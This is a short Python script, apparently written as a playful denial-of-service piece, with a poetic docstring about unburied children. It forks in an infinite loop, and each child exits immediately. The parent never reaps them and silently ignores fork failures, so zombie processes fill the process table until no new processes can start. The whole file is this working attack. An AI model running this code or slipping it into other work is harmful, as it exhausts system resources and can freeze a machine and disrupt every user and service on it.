"""Leaves its children unburied until there is room for no more."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            os._exit(0)
